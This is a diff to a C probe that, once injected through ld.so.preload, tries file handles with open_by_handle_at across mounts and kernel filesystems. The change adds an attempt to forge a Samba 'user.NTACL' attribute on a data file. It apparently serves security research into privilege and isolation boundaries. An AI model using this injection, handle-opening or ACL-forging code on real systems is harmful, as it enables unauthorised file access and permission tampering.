@@ -2,7 +2,7 @@
 /* What open_by_handle_at(2) opens.  As a program: `handles get FILE` prints the handle of a file, `handles try HANDLE FOLDER…`
  * tries it on the mounts of folders.  Loaded into a program (ld.so.preload), where that has the right: tries each handle
  * that /root/handles names on every mount there is, on its own standard streams and on the kernel's own file systems, and
- * writes what came of it to /root/handles.out. */
+ * writes what came of it to /root/handles.out, and whether it may write the attribute that is Samba's. */
 #include <errno.h>
 #include <fcntl.h>
 #include <linux/capability.h>
@@ -13,6 +13,7 @@
 #include <string.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/xattr.h>
 #include <unistd.h>
 
 enum { FD_PIDFS_ROOT = -10002, FD_NSFS_ROOT = -10003, TYPE_NSFS = 0xf1 };
@@ -121,6 +122,8 @@ __attribute__((constructor)) static void loaded(void)
 		if (parse(line, &handle))
 			try_mounts(out, &handle);
 	if (out) {
+		(void)fprintf(out, "xattr %s\n",
+			      setxattr("/srv/data/docs/own", "user.NTACL", "forged", 6, 0) < 0 ? strerrorname_np(errno) : "WRITTEN");
 		try_kernel(out);
 		(void)fclose(out);
 	}
